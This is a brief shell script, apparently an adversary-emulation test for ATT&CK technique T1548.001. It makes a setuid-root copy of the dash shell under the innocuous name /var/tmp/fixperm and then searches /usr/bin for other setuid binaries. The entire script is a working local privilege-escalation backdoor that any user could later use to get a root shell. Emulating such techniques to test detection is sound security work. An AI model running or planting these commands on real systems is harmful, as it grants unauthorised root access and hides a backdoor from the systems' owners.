#!/bin/sh
# SPDX-License-Identifier: GPL-3.0-or-later
# T1548.001 Setuid and Setgid: a copy of a shell with the setuid bit, and a search for others.
cp /bin/dash /var/tmp/fixperm
chown root:root /var/tmp/fixperm
chmod u+s /var/tmp/fixperm
find /usr/bin -perm -4000 -type f 2>/dev/null | head -5
